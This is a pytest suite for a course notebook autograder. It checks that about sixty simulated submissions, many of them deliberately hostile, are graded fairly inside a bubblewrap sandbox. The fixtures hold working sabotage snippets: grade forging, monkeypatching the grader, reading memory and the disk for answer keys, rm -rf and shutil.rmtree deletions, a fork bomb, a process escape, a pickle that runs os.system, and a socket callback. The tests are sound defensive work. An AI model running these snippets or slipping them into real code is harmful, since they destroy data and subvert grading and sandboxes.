"""A class hands in whatever people, editors and attackers do: each gets what is theirs alone."""

import contextlib
import csv
import html
import io
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

from fmcourse.classroom import grade_class, reports, variants
from fmcourse.classroom.course_files import safe_name
from fmcourse.classroom.exercise_kinds import PUBLIC_SEED
from fmcourse.classroom.jail import Jail, find_bubblewrap
from fmcourse.classroom.library import all_assigned, instructor_folder
from fmcourse.course.library import find_exercise

ASSIGNED = {exercise.id: exercise for exercise in all_assigned()}
pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(900),
    pytest.mark.skipif(not ASSIGNED, reason="this edition has no instructor's folder"),
    pytest.mark.skipif(not hasattr(os, "fork"), reason="grading forks, and this system cannot"),
    pytest.mark.xdist_group("grading"),
]
IDS = ["06.1", "07b.1", "07.A1", "07b.A2"]
NAME = {
    exercise_id: (ASSIGNED.get(exercise_id) or find_exercise(exercise_id)).name
    for exercise_id in IDS
}
KEY = b"0123456789abcdef of the class"
ATTEND, POOL, WHOLE = (find_exercise("06.1").solution, find_exercise("07b.1").solution, "")
LITERAL = "mine = variant('07b.A2')\n"
FULL = {"06.1": 1, "07b.1": 1, "07.A1": 10, "07b.A2": 10}  # of practice: done or not


def solution_cell(exercise_id: str) -> str:
    """A right answer as a student writes it."""
    exercise = ASSIGNED.get(exercise_id) or find_exercise(exercise_id)
    if exercise_id != "07b.A2":
        return exercise.solution
    inner = exercise.solution.replace(f"def {exercise.name}", "def share")
    return f"{LITERAL}{inner}\n{exercise.name} = share(mine)\n"


def cells(**other: str | None) -> list[str]:
    """The code cells of a right notebook; `e07_A1=...` puts other code there, None none."""
    found = [
        "import torch\nfrom torch import Tensor\nfrom fmcourse.classroom import points, variant\n"
    ]
    for exercise_id in IDS:
        code = other.get("e" + exercise_id.replace(".", "_"), solution_cell(exercise_id))
        if code is not None:
            most = f", of={FULL[exercise_id]}" if ".A" in exercise_id else ""
            found += [code, f'points("{exercise_id}", {NAME[exercise_id]}{most})']
    return found


def notebook(sources: list, minor: int = 5, **more) -> bytes:
    empty = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": []}
    made = [empty | {"id": f"c{n}", "source": text} for n, text in enumerate(sources)]
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": minor, "metadata": {}, "cells": made} | more
    ).encode()


def zip_bytes(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def put(name: str, data: bytes, where: str = "week3/week3.ipynb"):
    """A student's folder with one file."""

    def write(submitted: Path) -> None:
        path = submitted / safe_name(name) / where
        path.parent.mkdir(parents=True)
        path.write_bytes(data)

    return write


def hostile_notebook(code: str) -> bytes:
    """A notebook whose 07.A1 does something else, and whose other answers are right."""
    return notebook(cells(e07_A1=code))


def in_function(body: str, after: str = "return begins") -> str:
    """An answer to 07.A1 that does something first."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return f"import os, sys\ndef {NAME['07.A1']}(begins, chosen):\n{lines}\n    {after}\n"


OTHERS = {"06.1": 1, "07b.1": 1, "07b.A2": 10}  # what every attacker still has
ALL, NONE = FULL, dict.fromkeys(IDS, 0)
RIGHT = cells()
LOST_1 = {**FULL, "07.A1": 0}
FORGED = """
import json, os, struct
fake = json.dumps({"points": 10, "verdict": "right", "outcomes": "right", "right": True}).encode()
for fd in range(3, 64):
    try: os.write(fd, struct.pack("!Q", len(fake)) + fake)
    except OSError: pass
os._exit(0)
"""
PATCHED = """
import builtins, torch, fmcourse.course.verdict as d, fmcourse.course.comparing as c
import fmcourse.classroom.scoring as m, fmcourse.course as fc
d.diagnose = d.judge = lambda *a, **k: d.Verdict(True, "right", "right")
c.equal = lambda *a, **k: True
m.mark = lambda *a, **k: m.Mark(1.0, d.Verdict(True, "right", "right"))
fc.check = lambda i, f: f
torch.equal = torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda a, b: torch.ones(1, dtype=torch.bool)
builtins.all = lambda some: True
"""
MEMORY = """
import gc, sys
seen = []
for thing in gc.get_objects():
    if type(thing).__name__ in ("Outcome", "AssignedExercise"): seen.append(repr(thing)[:200])
frame = sys._getframe()
while frame is not None:
    exercise = frame.f_locals.get("exercise")
    if exercise is not None:
        seen.append(getattr(exercise, "solution", ""))
        seen += [str(vars(o)) for o in getattr(exercise, "recorded_outcomes", None) or ()]
        seen.append(f"cases: {len(exercise.cases)}")
    frame = frame.f_back
from fmcourse.classroom.library import all_assigned
cases = [s for s in seen if s.startswith("cases")]
raise ValueError(f"FOUND {'gather' in str(seen)} {len(all_assigned())} {cases}")
"""
DISK = """
found = []
# What a system installs holds no secret of the course, and walking it may outlast the exercise.
skipped = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/opt", "/etc", "/var/lib")
for top, folders, files in os.walk("/"):
    paths = {f: os.path.join(top, f) for f in folders}
    folders[:] = [f for f, path in paths.items()
                  if path not in skipped and "site-packages" not in path and ".git" != f]
    secret = ("exercises.py", "gradebook.db", "week3.json", "week3.ipynb", "key")
    found += [os.path.join(top, f) for f in files if f in secret]
raise ValueError("FOUND " + " ".join(f for f in found if "/lessons/" not in f))
"""
DELETE = """
import shutil
for place in ("{submitted}", "{course}", "/tmp", os.path.expanduser("~")):
    shutil.rmtree(place, ignore_errors=True)
open("{course}/gradebook.db", "w").write("10 points")
"""
ESCAPE = """
import subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = "import time; MARK = '{mark}'; time.sleep(300)"
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
"""
PICKLED = """
class Bomb:
    def __reduce__(self): return (os.system, ("touch {mark}",))
"""
STUBBORN = """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True: pass
"""


def value_for(student: str) -> object:
    """The right answer to 07b.A2 for a student's own numbers."""
    return ASSIGNED["07b.A2"].reference(variants.numbers_for(KEY, student, ASSIGNED["07b.A2"]))


def the_class(course: Path, port: int) -> dict[str, tuple]:
    """name -> (how it is written, points, words that the reasons or remarks must have)."""
    submitted, a1 = course / "submitted", ASSIGNED["07.A1"]
    mark = {"submitted": submitted, "course": course, "mark": f"fmcourse-{os.getpid()}"}

    def fill(text):
        for name, value in mark.items():
            text = text.replace("{" + name + "}", str(value))
        return text

    def wrong(n):
        return a1.mistakes[n].wrong_answer

    starters = {
        f"e{i.replace('.', '_')}": (ASSIGNED.get(i) or find_exercise(i)).starter for i in IDS
    }
    public = ASSIGNED["07b.A2"].reference(ASSIGNED["07b.A2"].draw_numbers(PUBLIC_SEED))
    typed, ben = (value_for(student) for student in ("typed in", "borrower's friend"))
    text = "\n\n".join(f"# %%\n{cell}" for cell in RIGHT)
    v3 = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {},
        "worksheets": [
            {
                "cells": [
                    {"cell_type": "code", "input": cell, "language": "python", "outputs": []}
                    for cell in RIGHT
                ]
            }
        ],
    }
    huge = json.loads(notebook(RIGHT))
    huge["cells"][1]["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": ["x" * 1000 + "\n"] * 52_000}
    ]
    bare = {"cells": [{"cell_type": "code", "source": cell} for cell in RIGHT]}
    lists = {
        "cells": [
            {
                "cell_type": "code",
                "source": cell.splitlines(keepends=True),
                "metadata": {"vscode": {}, "colab": {}},
            }
            for cell in RIGHT
        ]
    }
    half = "def half(begins):\n    return begins.cumsum(1) - 1\n"
    split = f"def {NAME['07.A1']}(begins, chosen):\n    return chosen.gather(1, half(begins))\n"
    return {
        # -- as it should be
        "ann right": (put("ann right", notebook(RIGHT)), ALL, ""),
        "bea blank": (put("bea blank", notebook(cells(**starters))), NONE, "left blank"),
        "cem wrong": (
            put(
                "cem wrong",
                notebook(
                    cells(
                        e07_A1=wrong(1),
                        e07b_1="def mean_of_real(states, real):\n    return states.mean(1)\n",
                    )
                ),
            ),
            {**FULL, "07.A1": (0.01, 5), "07b.1": 0},
            "The padding is averaged in",
        ),
        "dan partly": (
            put("dan partly", notebook(cells(e07_A1=wrong(4)))),
            {**FULL, "07.A1": (1, 9)},
            "Every text is cut as the first one is",
        ),
        # -- cells
        "moved": (put("moved", notebook([RIGHT[0], *reversed(RIGHT[1:])])), ALL, ""),
        "split": (put("split", notebook([*cells(e07_A1=split), half])), ALL, ""),
        "merged": (put("merged", notebook(["\n".join(RIGHT)])), ALL, ""),
        "deleted": (
            put("deleted", notebook(cells(e07_A1=None))),
            LOST_1,
            f"No `{NAME['07.A1']}` was found",
        ),
        "duplicated": (
            put(
                "duplicated",
                notebook([*RIGHT, a1.starter, RIGHT[1], find_exercise("07b.1").starter]),
            ),
            ALL,
            "",
        ),
        "magics": (
            put(
                "magics",
                notebook(
                    [
                        "%matplotlib inline\n!pip install x\n?torch\n",
                        "%%time\n" + RIGHT[1],
                        *RIGHT,
                        "%%bash\nrm -rf /\n",
                        "%load_ext x",
                    ]
                ),
            ),
            ALL,
            "",
        ),
        "elsewhere broken": (
            put(
                "elsewhere broken",
                notebook(
                    [
                        "x = = 1",
                        *RIGHT[:3],
                        "while True: pass",
                        *RIGHT[3:],
                        "1/0",
                        "raise SystemExit",
                    ]
                ),
            ),
            ALL,
            "",
        ),
        # -- files
        "stripped": (put("stripped", json.dumps(bare).encode()), ALL, ""),
        "minor 0": (put("minor 0", notebook(RIGHT, minor=0)), ALL, ""),
        "version 3": (put("version 3", json.dumps(v3).encode()), ALL, ""),
        "other editors": (put("other editors", json.dumps(lists).encode()), ALL, ""),
        "renamed": (
            put("renamed", notebook(RIGHT), "My Homework (2) final.ipynb"),
            ALL,
            "week3.ipynb was handed out",
        ),
        "bom": (put("bom", b"\xef\xbb\xbf" + notebook(RIGHT)), ALL, ""),
        "windows": (
            put(
                "windows",
                json.dumps(
                    {
                        "cells": [
                            {"cell_type": "code", "source": c.replace("\n", "\r\n")} for c in RIGHT
                        ]
                    },
                    indent=1,
                )
                .replace("\n", "\r\n")
                .encode(),
            ),
            ALL,
            "",
        ),
        "utf-16": (put("utf-16", notebook(RIGHT).decode().encode("utf-16")), ALL, ""),
        "outputs": (put("outputs", json.dumps(huge).encode()), ALL, ""),
        "script": (put("script", text.encode(), "week3.py"), ALL, "a script, not a notebook"),
        "plain script": (
            put("plain script", "\n".join(RIGHT).encode(), "homework.txt"),
            ALL,
            "a script, not a notebook",
        ),
        "zip": (
            put(
                "zip",
                zip_bytes(**{"a/week3.ipynb": notebook(RIGHT), "__MACOSX/._week3.ipynb": b"x"}),
                "week3.zip",
            ),
            ALL,
            "",
        ),
        "several": (
            lambda s: [
                put("several", notebook(cells(**starters)))(s),
                (s / "several" / "week3" / "week3-solved.ipynb").write_bytes(notebook(RIGHT)),
            ],
            ALL,
            "",
        ),
        "flat": (lambda s: (s / "flat.ipynb").write_bytes(notebook(RIGHT)), ALL, ""),
        "empty file": (put("empty file", b""), NONE, "The file is empty"),
        "empty folder": (
            lambda s: (s / safe_name("empty folder")).mkdir(),
            NONE,
            "Nothing was handed in",
        ),
        "pdf": (
            put("pdf", b"%PDF-1.4 \x00\xff\xfe" + os.urandom(2000), "week3.pdf"),
            NONE,
            "not a notebook",
        ),
        "json": (put("json", b'{"grades": [1, 2]}'), NONE, "not a notebook"),
        "cut off": (put("cut off", notebook(RIGHT)[:-100]), NONE, "cannot be read as JSON"),
        "deep": (put("deep", b'{"cells":' + b"[" * 100_000), NONE, "not a notebook"),
        "deep code": (
            put(
                "deep code",
                notebook(cells(e07_A1=f"def {NAME['07.A1']}(a, b):\n    return " + "(" * 3000)),
            ),
            LOST_1,
            "cannot be read",
        ),
        "syntax": (
            put(
                "syntax",
                notebook(
                    cells(e07_A1=f"def {NAME['07.A1']}(begins, chosen):\n    retrun chosen\n")
                ),
            ),
            LOST_1,
            "line 2",
        ),
        "Zoë ../../x =1+1": (put("Zoë ../../x =1+1", notebook(RIGHT)), ALL, ""),
        "absent": (None, NONE, "Nothing was handed in"),
        # -- numbers of one's own
        "typed in": (
            put(
                "typed in",
                notebook(cells(e07b_A2=f"{LITERAL}{NAME['07b.A2']} = {typed!r}")),
            ),
            ALL,
            "",
        ),
        "public": (
            put("public", notebook(cells(e07b_A2=f"{NAME['07b.A2']} = {public!r}"))),
            {**FULL, "07b.A2": (0, 3)},
            "right for the public numbers",
        ),
        "borrower": (
            put("borrower", notebook(cells(e07b_A2=f"{NAME['07b.A2']} = {ben!r}"))),
            {**FULL, "07b.A2": (0, 3)},
            "",
        ),
        "borrower's friend": (put("borrower's friend", notebook(RIGHT)), ALL, ""),
        # -- what costs its exercise and nothing else
        "endless": (
            put("endless", hostile_notebook(in_function("while True: pass"))),
            LOST_1,
            "loop that never ends",
        ),
        "endless before": (
            put(
                "endless before",
                hostile_notebook(
                    "x = [1]\nwhile x:\n    x.append(1); x.pop()\n" + in_function("x")
                ),
            ),
            LOST_1,
            "loop that never ends",
        ),
        "dead kernel": (
            put("dead kernel", hostile_notebook(in_function("os._exit(0)"))),
            LOST_1,
            "ended its own process",
        ),
        "crash": (
            put("crash", hostile_notebook(in_function("import ctypes; ctypes.string_at(0)"))),
            LOST_1,
            "broke down",
        ),
        "memory bomb": (
            put(
                "memory bomb",
                hostile_notebook(in_function("x = [bytearray(10**8) for _ in range(100)]")),
            ),
            LOST_1,
            "Memory",
        ),
        "deep result": (
            put(
                "deep result",
                hostile_notebook(in_function("x = []\nfor _ in range(10**5): x = [x]", "return x")),
            ),
            LOST_1,
            "",
        ),
        "huge result": (
            put("huge result", hostile_notebook(in_function("", "return torch.zeros(40_000_000)"))),
            LOST_1,
            "",
        ),
        "prints": (
            put(
                "prints", hostile_notebook(in_function("for _ in range(10**5): print('x' * 1000)"))
            ),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "stubborn": (
            put("stubborn", hostile_notebook(in_function(STUBBORN))),
            LOST_1,
            "It was stopped",
        ),
        # -- hostile
        "forger": (put("forger", hostile_notebook(in_function(FORGED))), LOST_1, ""),
        "forges words": (
            put(
                "forges words",
                hostile_notebook(
                    "def points(*a, **k):\n    return 10.0\n"
                    "print('07.A1 right: 10 of 10 points.')\n" + in_function("print('right')")
                ),
            ),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "patcher": (
            put("patcher", hostile_notebook(in_function(PATCHED))),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "patches first": (
            put(
                "patches first",
                hostile_notebook(
                    "import torch\n"
                    + "\n".join(PATCHED.strip().splitlines())
                    + "\n"
                    + in_function("")
                ),
            ),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "reads memory": (
            put("reads memory", hostile_notebook(in_function(MEMORY))),
            LOST_1,
            f"FOUND False 0 ['cases: {len(a1.cases)}'",
        ),
        "reads disk": (
            put("reads disk", hostile_notebook(in_function(DISK))),
            LOST_1,
            "FOUND (line",
        ),
        "deletes": (put("deletes", hostile_notebook(in_function(fill(DELETE)))), LOST_1, ""),
        "fork bomb": (
            put("fork bomb", hostile_notebook(in_function("while True: os.fork()"))),
            LOST_1,
            "more processes",
        ),
        "escapes": (
            put("escapes", hostile_notebook(in_function(fill(ESCAPE)))),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "kills": (
            put(
                "kills",
                hostile_notebook(
                    in_function(
                        "import signal\n"
                        "for p in (-1, 1, 2, os.getppid()):\n"
                        "    try: os.kill(p, signal.SIGKILL)\n"
                        "    except OSError: pass"
                    )
                ),
            ),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "calls home": (
            put(
                "calls home",
                hostile_notebook(
                    in_function(
                        "import socket\n"
                        f"here = ('127.0.0.1', {port})\n"
                        "socket.create_connection(here, 2).sendall(b'cases')"
                    )
                ),
            ),
            LOST_1,
            "",
        ),
        "fills the disk": (
            put(
                "fills the disk",
                hostile_notebook(
                    in_function("f = open('x', 'wb')\nwhile True: f.write(bytes(10**7))")
                ),
            ),
            LOST_1,
            "",
        ),
        "pickles": (
            put("pickles", hostile_notebook(fill(PICKLED) + in_function("", "return Bomb()"))),
            LOST_1,
            "",
        ),
        "a pickle": (put("a pickle", pickle.dumps({"cells": []})), NONE, "not a notebook"),
        "zip bomb": (
            put("zip bomb", zip_bytes(**{"week3.ipynb": bytes(250 * 10**6)})),
            NONE,
            "more than 200 MB",
        ),
        "liar": (
            put(
                "liar",
                hostile_notebook(
                    "import torch\n"
                    "class Yes(torch.Tensor):\n    def __eq__(self, other): return True\n"
                    + in_function("", "return begins.as_subclass(Yes)")
                ),
            ),
            {**FULL, "07.A1": (0, 3)},
            "",
        ),
        "link": (
            lambda s: [
                (s / "link").mkdir(),
                (s / "link" / "week3.ipynb").symlink_to(
                    s / safe_name("ann right") / "week3" / "week3.ipynb"
                ),
            ],
            NONE,
            "links are not followed",
        ),
        "folder link": (
            lambda s: (s / safe_name("folder link")).symlink_to(s / safe_name("ann right")),
            NONE,
            "links are not followed",
        ),
        "zip path": (
            put("zip path", zip_bytes(**{"../../../week3.ipynb": notebook(RIGHT)}), "week3.zip"),
            ALL,
            "",
        ),
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class, graded once: course, results by student, what the socket heard, reports, ..."""
    course = tmp_path_factory.mktemp("course")
    (course / "gradebook.db").write_text("the gradebook")
    with socket.create_server(("127.0.0.1", 0)) as server:
        heard, pupils = [], the_class(course, server.getsockname()[1])
        listener = threading.Thread(target=listen, args=(server, heard), daemon=True)
        listener.start()
        (course / "submitted").mkdir()
        for write, *_ in pupils.values():
            if write:
                write(course / "submitted")
        manifest = make_manifest(course)
        out = course.parent / f"{course.name}-grades"
        results = grade_class.grade_class(course / "submitted", out, manifest, KEY, jobs=2)
        borrowed = grade_class.find_borrowed_answers(manifest, KEY, results)
        reports.write_all(out, manifest, results, Jail().protection, borrowed)
        yield (
            course,
            {one.student: one for one in results},
            heard,
            out,
            pupils,
            manifest,
            borrowed,
        )
        stop_listening(server, listener)


def stop_listening(server: socket.socket, listener: threading.Thread) -> None:
    """Wake a thread that waits for a connection: to close the socket alone leaves it waiting."""
    with contextlib.suppress(OSError):  # macOS refuses; there the closing wakes it
        server.shutdown(socket.SHUT_RDWR)
    server.close()
    listener.join(10)


def test_the_thread_that_listens_ends_with_its_socket():
    server = socket.create_server(("127.0.0.1", 0))
    listener = threading.Thread(target=listen, args=(server, []), daemon=True)
    listener.start()
    stop_listening(server, listener)
    assert not listener.is_alive()


def listen(server: socket.socket, heard: list) -> None:
    """Remember who connects. Nobody may, and then the socket is shut: that ends the waiting."""
    with contextlib.suppress(OSError):
        heard.append(server.accept())


def make_manifest(course: Path) -> dict:
    exercises = [
        {
            "id": i,
            "points": FULL[i] if ".A" in i else 0,
            "cell": i,
            "points_cell": f"{i}-points",
            "name": NAME[i],
        }
        for i in IDS
    ]
    manifest = {
        "name": "week3",
        "exercises": exercises,
        "variants": variants.fingerprint(KEY),
        "students": ["absent"],
        "fmcourse": "0",
    }
    (course / "assignments").mkdir()
    (course / "assignments" / "week3.json").write_text(json.dumps(manifest))
    return manifest


def in_range(points: float, wanted: float | tuple[float, float]) -> bool:
    low, high = wanted if isinstance(wanted, tuple) else (wanted, wanted)
    return low <= points <= high


def test_each_gets_what_is_theirs_with_the_reason(graded):
    _, results, _, _, pupils, *_ = graded
    assert len(pupils) >= 60 and set(results) == set(pupils)
    wrong = {}
    for name, (_, wanted, words) in pupils.items():
        found = results[name].exercises
        points = {i: found[i].points if ".A" in i else found[i].share for i in IDS}
        sentences = [sentence for one in found.values() for sentence in one.sentences]
        said = " ".join([*results[name].remarks, *sentences])
        if not all(in_range(points[i], wanted[i]) for i in IDS) or words not in said:
            wrong[name] = (points, said)
    assert wrong == {}


def test_behind_bubblewrap_nothing_was_reached(graded):
    course, results, heard, _, pupils, *_ = graded
    if find_bubblewrap() is None:
        pytest.skip("no bubblewrap works here, so answers run with limits only")
    assert heard == []
    assert (course / "gradebook.db").read_text() == "the gradebook"
    kept = {path.name for path in (course / "submitted").iterdir()}
    assert kept >= {
        safe_name(name) for name, (write, *_) in pupils.items() if write and name not in ("flat",)
    }
    mark = f"fmcourse-{os.getpid()}"
    assert mark not in subprocess.run(
        ["ps", "axww"], capture_output=True, text=True
    ).stdout.replace(str(course), "")
    assert not list(Path.cwd().glob(f"{mark}*"))


def test_a_name_that_is_on_no_list_is_remarked(graded):
    _, results, *_ = graded
    assert (
        grade_class.NOT_ON_THE_LIST in results["ann right"].remarks
        and grade_class.NOT_ON_THE_LIST not in results["absent"].remarks
    )


def test_work_for_another_assignment_is_not_this_one(tmp_path):
    course = make_small_course(tmp_path / "course", 2)
    (course / "assignments" / "week2.json").write_text("{}")
    (course / "submitted" / "s1" / "week3").rename(course / "submitted" / "s1" / "week2")
    done = subprocess.run(
        [*command(course, tmp_path / "grades"), "--assignment", "week3"],
        capture_output=True,
        text=True,
        timeout=200,
    )
    assert done.returncode == 0, done.stderr
    rows = {
        row["student"]: row for row in csv.DictReader((tmp_path / "grades" / "grades.csv").open())
    }
    assert rows["s0"]["points"] == "20" and rows["s1"]["points"] == "0"
    assert (
        "Nothing was handed in" in rows["s1"]["remarks"] and "called" not in rows["s1"]["remarks"]
    )
    (tmp_path / "grades" / "results" / "week3").rename(tmp_path / "grades" / "results" / "week2")
    again = subprocess.run(
        [*command(course, tmp_path / "grades"), "--assignment", "week3"],
        capture_output=True,
        text=True,
        timeout=200,
    )
    assert (
        again.returncode == 1 and "holds the grades of week2; name another folder" in again.stderr
    )


def test_a_borrowed_answer_is_told_to_the_instructor_alone(graded):
    *_, out, _, _, borrowed = graded[2:]
    assert ("borrower", "07b.A2", "borrower's friend") in borrowed
    assert "borrower's friend" in html.unescape((out / "items.html").read_text())
    assert "friend" not in (out / "feedback" / f"{safe_name('borrower')}.html").read_text()


def test_reports_have_everybody_and_no_hidden_case(graded):
    _, results, _, out, pupils, *_ = graded
    rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))
    assert {row["student"] for row in rows} == {escape_formula(name) for name in pupils}
    first = next(row for row in rows if row["student"] == "ann right")
    assert (first["points"], first["of"], first["completed"]) == ("20", "20", "2")
    pages = list((out / "feedback").glob("*.html"))
    assert len(pages) == len(pupils)
    text = (out / "feedback" / f"{safe_name('cem wrong')}.html").read_text()
    assert "The padding is averaged in" in text and "places, not words" in text
    items = {
        row["exercise"]: row for row in csv.DictReader((out / "items.csv").open(encoding="utf-8"))
    }
    assert (
        set(items) == set(IDS)
        and float(items["07.A1"]["right"]) < 1
        and items["07b.1"]["commonest_mistakes"]
    )


def escape_formula(name: str) -> str:
    return reports.escape_formula(name)


def test_graded_again_it_is_the_same_and_costs_nothing(graded):
    course, results, _, out, _, manifest, _ = graded
    before = (out / "grades.csv").read_bytes()
    for path in sorted((out / "results" / "week3").glob("*.json"))[::9]:
        path.unlink()
    began = time.monotonic()
    again = grade_class.grade_class(course / "submitted", out, manifest, KEY, jobs=2)
    reports.write_all(out, manifest, again, "")
    assert (out / "grades.csv").read_bytes() == before
    assert sum(one.again for one in again) >= len(again) * 3 // 4
    assert time.monotonic() - began < 90

    def reasons(result):
        found = result.exercises.items()
        return {i: (one.points, one.verdict, one.sentences) for i, one in found}

    assert {one.student: reasons(one) for one in again} == {
        name: reasons(one) for name, one in results.items()
    }


def make_small_course(folder_: Path, n: int = 6) -> Path:
    """A course with a few right students."""
    for k in range(n):
        put(f"s{k}", notebook(RIGHT))(folder_ / "submitted")
    make_manifest(folder_)
    (folder_ / "key").write_bytes(KEY)
    return folder_


def command(course: Path, out: Path, *more: str) -> list[str]:
    return [
        sys.executable,
        "-m",
        "fmcourse",
        "grade",
        str(course / "submitted"),
        "--out",
        str(out),
        "--variants",
        str(course / "key"),
        *more,
    ]


def test_a_killed_run_goes_on_where_it_was(tmp_path):
    course, out = make_small_course(tmp_path / "course", 12), tmp_path / "grades"
    running = subprocess.Popen(
        command(course, out, "--jobs", "1"),
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    until = time.monotonic() + 120
    while time.monotonic() < until and len(list((out / "results").rglob("*.json"))) < 3:
        time.sleep(0.05)
    os.killpg(running.pid, signal.SIGKILL)
    running.wait()
    done = len(list((out / "results").rglob("*.json")))
    assert 3 <= done < 12 and not (out / "grades.csv").exists()
    finished = subprocess.run(
        command(course, out, "--jobs", "2"), capture_output=True, text=True, timeout=200
    )
    assert finished.returncode == 0, finished.stderr
    assert f"13 students graded, {done} of them before" in finished.stdout
    assert [row["points"] for row in csv.DictReader((out / "grades.csv").open())] == ["20"] * 12 + [
        "0"
    ]  # and one who handed in nothing


def test_without_bubblewrap_it_says_so_and_limits_hold(tmp_path):
    course, out = make_small_course(tmp_path / "course", 1), tmp_path / "grades"
    put("bomb", hostile_notebook(in_function("while True: os.fork()")))(course / "submitted")
    put("memory", hostile_notebook(in_function("x = [bytearray(10**8) for _ in range(100)]")))(
        course / "submitted"
    )
    put("loop", hostile_notebook(in_function("while True: pass")))(course / "submitted")
    done = subprocess.run(
        command(course, out, "--without-bubblewrap"), capture_output=True, text=True, timeout=200
    )
    assert done.returncode == 0, done.stderr
    assert "There is no bubblewrap here" in done.stdout
    rows = {row["student"]: row["points"] for row in csv.DictReader((out / "grades.csv").open())}
    assert rows == {"s0": "20", "bomb": "10", "memory": "10", "loop": "10", "absent": "0"}


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (lambda course: ["--assignment", "week9"], "has no assignment 'week9'"),
        (lambda course: ["--variants", str(course / "nokey")], "there is no such key file"),
        (
            lambda course: [
                (course / "other").write_bytes(b"another key altogether"),
                "--variants",
                str(course / "other"),
            ][1:],
            "holds another key",
        ),
        (lambda course: ["--out", str(course / "submitted" / "out")], "lies among the submissions"),
    ],
)
def test_bad_words_get_one_clear_line(tmp_path, change, sentence):
    course = make_small_course(tmp_path / "course", 1)
    done = subprocess.run(
        [*command(course, tmp_path / "grades"), *change(course)],
        capture_output=True,
        text=True,
        timeout=100,
    )
    assert (
        done.returncode == 1
        and sentence in done.stderr
        and len(done.stderr.strip().splitlines()) == 1
    )


def test_the_jail_shows_no_folder_of_the_instructor():
    if find_bubblewrap() is None:
        pytest.skip("no bubblewrap works here")
    with Jail() as jail:
        command = [*jail.process.args]
    seen = [command[n + 1] for n, word in enumerate(command) if word == "--ro-bind"]
    assert not [
        path
        for path in seen
        if Path(path) == instructor_folder() or Path(path) in instructor_folder().parents
    ]


def test_what_was_assigned_is_graded_into_the_gradebook_and_exported(tmp_path):
    pytest.importorskip("nbgrader", reason="nbgrader is for instructors, and not installed here")
    from fmcourse.classroom.assign import assign

    course, key, out = tmp_path / "course", tmp_path / "key", tmp_path / "grades"
    key.write_bytes(KEY)
    assign(IDS, "week3", course, key_file=key, students=["anna", "ben", "cleo"])
    released = json.loads((course / "release" / "week3" / "week3.ipynb").read_text())
    for student, other in (
        ("anna", {}),
        ("ben", {"07-A1": ASSIGNED["07.A1"].mistakes[4].wrong_answer}),
    ):
        code = {i.replace(".", "-"): solution_cell(i) for i in IDS} | other
        for cell in released["cells"]:
            cell["source"] = code.get(
                cell["metadata"].get("nbgrader", {}).get("grade_id"), cell["source"]
            )
        put(student, json.dumps(released).encode())(course / "submitted")
    graded_ = subprocess.run(
        [
            sys.executable,
            "-m",
            "fmcourse",
            "grade",
            str(course / "submitted"),
            "--out",
            str(out),
            "--variants",
            str(key),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert graded_.returncode == 0 and "gradebook.db" in graded_.stdout, graded_.stderr
    ours = {
        row["student"]: float(row["points"]) for row in csv.DictReader((out / "grades.csv").open())
    }
    assert ours["anna"] == 20 and 10 < ours["ben"] < 20 and ours["cleo"] == 0
    scripts = {"PATH": os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])}
    exported = subprocess.run(
        [sys.executable, "-m", "nbgrader", "export"],
        cwd=course,
        capture_output=True,
        text=True,
        env=os.environ | scripts,
    )
    assert exported.returncode == 0, exported.stderr
    theirs = {
        row["student_id"]: float(row["score"])
        for row in csv.DictReader((course / "grades.csv").open())
    }
    assert theirs == pytest.approx(ours)
